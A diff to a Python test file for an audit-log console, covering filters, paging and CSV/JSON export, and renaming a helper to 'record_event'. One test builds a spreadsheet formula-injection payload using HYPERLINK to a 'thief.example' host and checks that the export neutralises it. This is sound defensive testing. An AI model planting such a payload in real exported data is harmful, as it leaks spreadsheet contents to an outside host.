@@ -1,4 +1,4 @@
-"""The audit log in the console: filtered, paged, and taken away as a file that no spreadsheet runs."""
+"""The audit log in the console: filtered, paged, and downloaded as a file without spreadsheet formulas."""
 
 import csv
 import io
@@ -28,7 +28,7 @@ def _nothing_so_far(face: Face, operator: Visitor) -> None:
     face.core.database.execute("DELETE FROM audit_event")
 
 
-def happened(face: Face, number: int = 1, actor: Actor = ANN, **said: str) -> None:
+def record_event(face: Face, number: int = 1, actor: Actor = ANN, **said: str) -> None:
     """Record an event a second after the previous one."""
     named = {"action": "role.update", "target_type": "role", "target": "role_1"} | said
     with face.core.store.transaction() as session:
@@ -47,8 +47,8 @@ def test_an_empty_log_and_an_empty_search_say_so(operator: Visitor) -> None:
 
 
 def test_each_filter_narrows_and_stays_in_its_field(face: Face, operator: Visitor) -> None:
-    happened(face, action="role.create")
-    happened(face, action="role.delete", actor=OPERATOR, target="role_2")
+    record_event(face, action="role.create")
+    record_event(face, action="role.delete", actor=OPERATOR, target="role_2")
     for query, found in (
         ("", ["role.delete", "role.create"]),
         ("actor=usr_ann", ["role.create"]),
@@ -63,8 +63,8 @@ def test_each_filter_narrows_and_stays_in_its_field(face: Face, operator: Visito
 
 def test_since_is_inclusive_and_until_is_not(face: Face, operator: Visitor) -> None:
     face.core.clock.now = START.replace(microsecond=0)
-    happened(face, action="first.one")
-    happened(face, action="second.one")
+    record_event(face, action="first.one")
+    record_event(face, action="second.one")
     at = face.core.clock().strftime("%Y-%m-%dT%H:%M:%S")
     assert rows(operator.get(f"/console/audit?since={at}").text) == ["second.one"]
     assert rows(operator.get(f"/console/audit?until={at}").text) == ["first.one"]
@@ -79,8 +79,8 @@ def test_an_invalid_time_is_refused_at_its_field(operator: Visitor) -> None:
 
 
 def test_older_events_come_by_page_with_the_same_filter(face: Face, operator: Visitor) -> None:
-    happened(face, 60)
-    happened(face, actor=OPERATOR)
+    record_event(face, 60)
+    record_event(face, actor=OPERATOR)
     first = operator.get("/console/audit?actor=usr_ann").text
     older = re.search(r'href="([^"]+)" rel="next"[^>]*>Older', first)
     assert older is not None and len(rows(first)) == 50
@@ -90,8 +90,8 @@ def test_older_events_come_by_page_with_the_same_filter(face: Face, operator: Vi
 
 @pytest.mark.asvs("3.2.1")
 def test_a_file_holds_what_the_filter_finds(face: Face, operator: Visitor) -> None:
-    happened(face, 60)
-    happened(face, actor=OPERATOR)
+    record_event(face, 60)
+    record_event(face, actor=OPERATOR)
     answer = operator.get("/console/audit/export.csv?actor=usr_ann")
     assert answer.headers["Content-Type"].startswith("text/csv")
     assert re.fullmatch(r'attachment; filename="latchkey-audit-\w+\.csv"', answer.headers["Content-Disposition"])
@@ -108,7 +108,7 @@ def test_a_file_holds_what_the_filter_finds(face: Face, operator: Visitor) -> No
 @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
 def test_no_cell_is_a_formula(face: Face, operator: Visitor, begin: str) -> None:
     formula = f'{begin}HYPERLINK("https://thief.example?"&A1,"x")'
-    happened(face, actor=Actor(type="user", id="usr_x", name=formula), target=formula)
+    record_event(face, actor=Actor(type="user", id="usr_x", name=formula), target=formula)
     answer = operator.get("/console/audit/export.csv").get_data(as_text=True)
     _, row = csv.reader(io.StringIO(answer, newline=""))
     assert row[4] == row[7] == f"'{formula}"
@@ -117,7 +117,7 @@ def test_no_cell_is_a_formula(face: Face, operator: Visitor, begin: str) -> None
 
 
 def test_a_file_is_cut_and_says_so(face: Face, operator: Visitor) -> None:
-    happened(face, 10_001)
+    record_event(face, 10_001)
     table = list(csv.reader(io.StringIO(operator.get("/console/audit/export.csv").text)))
     assert len(table) == 10_002 and table[-1][5].startswith("cut: the newest 10000 events, back to 20")
     kept = json.loads(operator.get("/console/audit/export.json").text)
